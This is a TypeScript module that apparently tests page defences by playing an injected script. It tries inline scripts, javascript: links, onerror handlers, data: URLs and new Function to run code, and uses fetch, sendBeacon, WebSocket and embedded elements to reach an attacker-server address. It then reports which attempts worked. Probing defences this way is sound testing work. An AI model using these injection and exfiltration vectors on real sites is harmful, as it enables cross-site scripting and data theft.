// What a script that got into a page would try: to run more of itself, and to send what it finds to somewhere else.

export interface AttackOutcome {
  /** The ways in which a script came to run. */
  readonly ran: readonly string[];
  /** Whether the window around the page, or its address, could be got at. */
  readonly touchedAbove: boolean;
}

/** Where the attack sends what it finds, and how long it waits for answers. */
export interface AttackPlan {
  /** The address of a server of the attacker's, with a slash at its end. */
  readonly outside: string;
  /** Milliseconds after which a way that has given no answer is taken as closed. */
  readonly patience: number;
}

/** Runs in the page, so that it can use nothing from this module. */
export async function attackPage({ outside, patience }: AttackPlan): Promise<AttackOutcome> {
  const ran = new Set<string>();
  Reflect.set(window, "ran", (way: string) => ran.add(way));
  const add = <K extends keyof HTMLElementTagNameMap>(tag: K, set: Partial<HTMLElementTagNameMap[K]>): Promise<void> =>
    new Promise((resolve) => {
      const element = Object.assign(document.createElement(tag), set);
      element.addEventListener("load", () => resolve());
      element.addEventListener("error", () => resolve());
      document.body.append(element);
    });
  const tryOut = async (work: () => unknown): Promise<boolean> => {
    try {
      await work();
      return true;
    } catch {
      return false;
    }
  };

  const script = document.createElement("script");
  script.textContent = "ran('a script written in')";
  document.body.append(script);
  const link = Object.assign(document.createElement("a"), { href: "javascript:ran('a link')" });
  document.body.append(link);
  link.click();
  const handler = document.createElement("div");
  handler.innerHTML = `<img src="data:," onerror="ran('a handler')">`;
  const image = handler.querySelector("img");
  const isHandled = new Promise<void>((resolve) => image?.addEventListener("error", () => resolve()));
  document.body.append(handler);

  const answers = Promise.all([
    isHandled,
    add("script", { src: `${outside}script.js` }),
    add("script", { src: "data:text/javascript,ran('a data address')" }),
    add("img", { src: `${outside}image` }),
    add("link", { rel: "stylesheet", href: `${outside}style` }),
    add("iframe", { src: `${outside}frame` }),
    add("object", { data: `${outside}object` }),
    add("audio", { src: `${outside}audio` }),
    tryOut(() => fetch(`${outside}fetch`, { mode: "no-cors" })),
    tryOut(() => navigator.sendBeacon(`${outside}beacon`, "found")),
    tryOut(
      () =>
        new Promise((resolve, reject) => {
          const socket = new WebSocket(`${outside.replace("http", "ws")}socket`);
          socket.addEventListener("error", reject);
          socket.addEventListener("open", resolve);
        }),
    ),
    tryOut(() => new Worker("data:text/javascript,fetch('x')")),
  ]);
  // A browser that is short of time may leave a blocked element without any event: media wait for a page in view.
  await Promise.race([answers, new Promise((resolve) => setTimeout(resolve, patience))]);
  // A text as code: only after a wait, since the browser allows it to the debugger that began this.
  await tryOut(() => new Function("ran('a text')")());
  const isFramed = window.parent !== window;
  const touchedAbove = isFramed && (await tryOut(() => window.parent.document.title));
  return { ran: [...ran], touchedAbove };
}
